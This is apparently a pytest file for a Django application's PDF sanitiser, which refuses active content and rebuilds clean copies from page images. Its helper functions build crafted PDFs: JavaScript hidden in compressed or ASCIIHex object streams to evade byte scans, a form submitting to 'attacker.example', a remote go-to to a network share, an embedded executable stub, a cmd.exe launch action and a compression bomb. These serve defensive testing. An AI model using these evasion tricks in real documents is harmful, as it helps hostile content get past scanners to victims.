"""Association documents are parsed with pikepdf and rebuilt from pixels for staff (issue 18).

The crafted files are built with pikepdf itself, the way an attacker would hide active
content from a scanner that reads raw bytes: inside compressed object streams, behind
ASCIIHex, in forms and in remote go-to actions."""

from __future__ import annotations

import io
import tempfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from PIL import Image, ImageDraw

from qurb.accounts.documents import MAX_PAGES, document_clean

pytestmark = pytest.mark.django_db


def _plain(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
    )
    for number in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
        page = pdf.pages[-1]
        page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        text = f"BT /F1 36 Tf 72 700 Td (Statuts page {number + 1}) Tj ET".encode()
        page.Contents = pdf.make_stream(text)
    return pdf


def _bytes(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


# A one-page document whose catalog opens a script, every object but the object stream and
# its cross-reference stream compressed inside the object stream.
HIDDEN_OBJECTS = {
    2: b"<< /Type /Catalog /Pages 3 0 R /OpenAction 4 0 R >>",
    3: b"<< /Type /Pages /Kids [5 0 R] /Count 1 >>",
    4: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
    5: b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] >>",
}


def _in_object_stream(encoded: bytes, filters: bytes, first: int) -> bytes:
    """A PDF written by hand: object 1 is the object stream (its data already encoded with
    `filters`), then a cross-reference stream pointing into it."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    stream_at = len(out)
    out += b"1 0 obj\n<< /Type /ObjStm /N %d /First %d /Length %d /Filter %s >>\nstream\n" % (
        len(HIDDEN_OBJECTS),
        first,
        len(encoded),
        filters,
    )
    out += encoded + b"\nendstream\nendobj\n"
    xref_number = max(HIDDEN_OBJECTS) + 1
    xref_at = len(out)
    rows = [b"\x00" + (0).to_bytes(4) + (0xFFFF).to_bytes(2)]
    rows.append(b"\x01" + stream_at.to_bytes(4) + b"\0\0")
    rows += [b"\x02" + (1).to_bytes(4) + i.to_bytes(2) for i in range(len(HIDDEN_OBJECTS))]
    rows.append(b"\x01" + xref_at.to_bytes(4) + b"\0\0")
    table = b"".join(rows)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 2 0 R /Length %d >>\nstream\n" % (
        xref_number,
        xref_number + 1,
        len(table),
    )
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    data = bytes(out)
    assert b"OpenAction" not in data  # hidden from a byte scan
    assert b"JavaScript" not in data
    with pikepdf.open(io.BytesIO(data)) as pdf:  # a reader finds the script
        assert pikepdf.Name.JavaScript == pdf.Root.OpenAction.S
        assert len(pdf.pages) == 1
    return data


def _object_stream_data() -> tuple[bytes, int]:
    body = b""
    offsets = []
    for number, text in HIDDEN_OBJECTS.items():
        offsets.append(b"%d %d" % (number, len(body)))
        body += text + b"\n"
    header = b" ".join(offsets) + b"\n"
    return header + body, len(header)


def javascript_in_doubly_compressed_object_stream() -> bytes:
    data, first = _object_stream_data()
    twice = zlib.compress(zlib.compress(data))
    return _in_object_stream(twice, b"[/FlateDecode /FlateDecode]", first)


def javascript_in_ascii_hex_object_stream() -> bytes:
    data, first = _object_stream_data()
    return _in_object_stream(data.hex().encode() + b">", b"/ASCIIHexDecode", first)


def acroform_submit_to_outside() -> bytes:
    pdf = _plain()
    submit = pikepdf.Dictionary(
        S=pikepdf.Name.SubmitForm,
        F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F=pikepdf.String("https://attacker.example/c")),
    )
    field = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            FT=pikepdf.Name.Btn,
            T=pikepdf.String("send"),
            Rect=pikepdf.Array([72, 72, 200, 100]),
            A=submit,
        )
    )
    pdf.pages[0].Annots = pikepdf.Array([field])
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))
    return _bytes(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def goto_remote_network_share() -> bytes:
    pdf = _plain()
    link = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=pikepdf.Array([72, 72, 300, 100]),
            A=pikepdf.Dictionary(
                S=pikepdf.Name.GoToR,
                F=pikepdf.String("\\\\host\\share\\x.pdf"),
                D=pikepdf.Array([0, pikepdf.Name.Fit]),
            ),
        )
    )
    pdf.pages[0].Annots = pikepdf.Array([link])
    return _bytes(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def uri_link() -> bytes:
    pdf = _plain()
    pdf.pages[0].Annots = pikepdf.Array(
        [
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Link,
                Rect=pikepdf.Array([72, 72, 300, 100]),
                A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://x.example")),
            )
        ]
    )
    return _bytes(pdf)


def embedded_file() -> bytes:
    pdf = _plain()
    with tempfile.TemporaryDirectory() as folder:
        payload = Path(folder) / "payload.exe"
        payload.write_bytes(b"MZ...")
        pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec.from_filepath(pdf, payload)
    return _bytes(pdf)


def launch_in_page_additional_action() -> bytes:
    pdf = _plain()
    pdf.pages[0].AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    )
    return _bytes(pdf)


@pytest.mark.parametrize(
    "craft",
    [
        javascript_in_doubly_compressed_object_stream,
        javascript_in_ascii_hex_object_stream,
        acroform_submit_to_outside,
        goto_remote_network_share,
        uri_link,
        embedded_file,
        launch_in_page_additional_action,
    ],
)
def test_crafted_pdfs_are_refused(craft: Callable[[], bytes]) -> None:
    data = craft()
    assert pikepdf.open(io.BytesIO(data))  # a well-formed PDF, not refused for being broken
    with pytest.raises(ValidationError) as refused:
        document_clean(io.BytesIO(data))
    assert refused.value.code == "document_active"


def test_a_plain_pdf_is_accepted_and_staff_get_a_copy_made_of_pixels() -> None:
    sent = _bytes(_plain(pages=2))
    document = document_clean(io.BytesIO(sent))
    assert document.content_type == "application/pdf"
    assert document.original == sent  # kept, for the legal record only
    copy = pikepdf.open(io.BytesIO(document.data))
    assert len(copy.pages) == 2
    for page in copy.pages:
        # Each page is one image drawn full-page: no font, no text operator, no annotation.
        assert "/Font" not in page.Resources
        assert "/Annots" not in page
        assert list(page.Resources.XObject.keys())
        content = page.Contents.read_bytes()
        assert b"Tj" not in content
        assert b"BT" not in content
    for obj in copy.objects:
        if isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
            assert not {"/Font", "/A", "/OpenAction"} & set(obj.keys())
    assert b"Statuts" not in document.data
    # The staff copy passes the check itself.
    assert document_clean(io.BytesIO(document.data)).content_type == "application/pdf"


def test_the_rebuilt_copy_keeps_what_the_page_shows() -> None:
    photo = Image.new("RGB", (800, 1100), "white")
    ImageDraw.Draw(photo).rectangle((100, 100, 400, 300), fill="black")
    sent = io.BytesIO()
    photo.save(sent, "PDF", resolution=100.0)
    document = document_clean(io.BytesIO(sent.getvalue()))
    copy = pikepdf.open(io.BytesIO(document.data))
    (stream,) = copy.pages[0].get_images().values()
    image = pikepdf.PdfImage(stream).as_pil_image()  # type: ignore[arg-type]
    width, height = image.size
    gray = image.convert("L")
    assert gray.getpixel((width * 250 // 800, height * 200 // 1100)) < 60  # type: ignore[operator]
    assert gray.getpixel((width * 600 // 800, height * 800 // 1100)) > 200  # type: ignore[operator]


def test_an_encrypted_pdf_is_refused() -> None:
    data = _bytes(_plain(), encryption=pikepdf.Encryption(owner="o", user=""))
    with pytest.raises(ValidationError) as refused:
        document_clean(io.BytesIO(data))
    assert refused.value.code == "document_encrypted"
    data = _bytes(_plain(), encryption=pikepdf.Encryption(owner="o", user="secret"))
    with pytest.raises(ValidationError) as refused:
        document_clean(io.BytesIO(data))
    assert refused.value.code == "document_encrypted"


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n" + bytes(range(256)) * 40,
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n",
        b"%PDF-",
    ],
)
def test_garbage_pdfs_are_refused_with_a_clear_error(data: bytes) -> None:
    with pytest.raises(ValidationError) as refused:
        document_clean(io.BytesIO(data))
    assert refused.value.code in {"document_unreadable", "document_format"}


def test_garbage_that_is_not_a_pdf_is_refused() -> None:
    with pytest.raises(ValidationError) as refused:
        document_clean(io.BytesIO(b"\x00garbage" * 100))
    assert refused.value.code == "document_format"


def test_page_count_is_bounded() -> None:
    assert document_clean(io.BytesIO(_bytes(_plain(pages=MAX_PAGES)))).content_type
    with pytest.raises(ValidationError) as refused:
        document_clean(io.BytesIO(_bytes(_plain(pages=MAX_PAGES + 1))))
    assert refused.value.code == "document_pages"
    assert str(MAX_PAGES) in refused.value.messages[0]


def test_a_compression_bomb_is_refused_before_it_is_inflated() -> None:
    packer = zlib.compressobj(9)
    inner = b"".join(packer.compress(b" " * 1024 * 1024) for _ in range(100)) + packer.flush()
    pdf = _plain()
    pdf.pages[0].Contents.write(
        zlib.compress(inner, 9),
        filter=pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode]),
    )
    with pytest.raises(ValidationError) as refused:
        document_clean(io.BytesIO(_bytes(pdf)))
    assert refused.value.code == "document_unreadable"
